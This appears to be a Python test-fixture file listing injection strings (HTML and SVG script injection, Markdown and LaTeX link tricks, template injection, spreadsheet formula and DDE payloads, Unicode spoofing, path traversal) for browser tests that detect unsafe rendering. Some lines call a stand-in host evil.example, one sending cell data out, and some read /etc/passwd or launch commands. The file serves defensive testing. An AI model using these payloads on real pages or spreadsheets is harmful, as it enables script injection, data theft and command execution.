"""Texts that would run, load, overlay or compute something where a page or a file took them for more than text.

What runs sets `window.hit`, opens a dialog, or asks a host that is not ours; the browser tests look for all three.
"""

HTML = [
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    '<IMG """><SCRIPT>window.hit=1</SCRIPT>">',
    "<img src=//evil.example/x.png onerror=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:window.hit=1'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>x</details>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
    '<embed src="javascript:window.hit=1">',
    "<form action=//evil.example><input name=q autofocus onfocus=window.hit=1></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(//evil.example/x.png)">x</div>',
    "<template><img src=x onerror=window.hit=1></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    '<a href="&#106;avascript:window.hit=1">x</a>',
    "<x contenteditable onfocus=window.hit=1 tabindex=1 autofocus>x</x>",
    "<video><source onerror=window.hit=1></video>",
    "<body onload=window.hit=1>",
    "<textarea></textarea><plaintext>",
    "</span></li></ol></section></div></main><h1>Not ours</h1>",
    "<!--><img src=x onerror=window.hit=1>-->",
    'x" data-go href="javascript:window.hit=1" class="next',
    """' data-x='{"a":1}' onclick='window.hit=1""",
    "&quot;&gt;&lt;img src=x onerror=window.hit=1&gt;",
    r"\u003cscript\u003ewindow.hit=1\u003c/script\u003e",
    "%3Cscript%3Ewindow.hit%3D1%3C/script%3E",
    "<button id=browse-go class=address-go>Not ours</button>",
]
MARKDOWN = [
    "[x](javascript:window.hit=1)",
    "[x](data:text/html,<script>window.hit=1</script>)",
    "![x](//evil.example/x.png)",
    "<javascript:window.hit=1>",
    "[x]: //evil.example 'title'",
    "```html <script>window.hit=1</script> ```",
    "# Not a heading",
    "| a | b | |---|---|",
    "**not bold** _nor this_ ~~nor that~~",
    "- [ ] not a box",
]
LATEX = [
    r"$\href{javascript:window.hit=1}{x}$",
    r"$\url{javascript:window.hit=1}$",
    r"$\includegraphics{//evil.example/x.png}$",
    r"$\htmlData{go=1}{y}$",
    r"$\htmlId{browse-go}{y}$",
    r"$\htmlClass{next}{y}$",
    r"$\htmlStyle{position:fixed;inset:0}{y}$",
    r"$\def\x{\x\x}\x$",
    r"$\def\a{\b\b}\def\b{\a\a}\a$",
    r"\(\text{<img src=x onerror=window.hit=1>}\)",
    r"$$\rule{9999em}{9999em}$$",
    r"\[\begin{matrix}<script>window.hit=1</script>\end{matrix}\]",
    r"$\unicode{x3cscript}\class{x}{y}\style{color:red}{z}$",
    r"$\input{/etc/passwd}$",
    r"\begin{align}\href{javascript:window.hit=1}{x}\end{align}",
    r"$\kern-99em\raisebox{99em}{x}$",
    r"$\color{red;background:url(//evil.example/x.png)}x$",
    f"${'{' * 400}{'}' * 400}$",
]
TEMPLATES = [
    "${window.hit=1}",
    "`${window.hit=1}`",
    "{{constructor.constructor('window.hit=1')()}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{@html '<img src=x onerror=window.hit=1>'}",
    "<%= window.hit=1 %>",
    "#{window.hit=1}",
    "{{{window.hit=1}}}",
    "{window.hit=1}",
    '<p v-html="window.hit=1" x-init="window.hit=1">x</p>',
    "__proto__",
    "%(x)s %s %n {0} {x!r}",
    '"};window.hit=1;//',
    "';window.hit=1;//",
    "\u2028window.hit=1//",
]
CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    ' =IMPORTXML("http://evil.example","//x")',
    '","=1+1","',
    "\n=1+1",
]
UNICODE = [
    "the sum \u202edewollof\u202c of it",
    "\u202ea line that turns what comes after it",
    "\u2066<b>\u2069 \u200f\u200e",
    "<\u200bscript>window.hit=1</script>",
    "\ufeff<script>window.hit=1</script>",
    "\x01\x02\x07\x1b[31mred",
    "%00 \\0 \u2400",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0355\u035al\u0322go" + "\u0300" * 60,
    "👩‍👩‍👧‍👦 \U000e0041\U000e007f \ufffd \uffff",
    "＜script＞window.hit＝1＜/script＞",
]
LONG = ["W" * 5_000, "<b>" * 1_000, "$x$ " * 500]

PAYLOADS = [*HTML, *MARKDOWN, *LATEX, *TEMPLATES, *CELLS, *UNICODE, *LONG]

# What can name a dataset or an evaluator: printable, and short.
NAMES = [
    '<img src=x onerror="window.hit=1">',
    '"><script>window.hit=1</script>',
    "' onmouseover='window.hit=1",
    "=1+1",
    "../../etc/passwd",
    r"$\href{javascript:window.hit=1}{x}$",
    "${window.hit=1} {{7*7}}",
    "a&b=c#d?e/f%20g",
]

HALVES = ["\ud800", "x\udfffy", "a\x00b"]
"""Half surrogates and NUL, which no store or tokenizer takes: refused with a reason."""
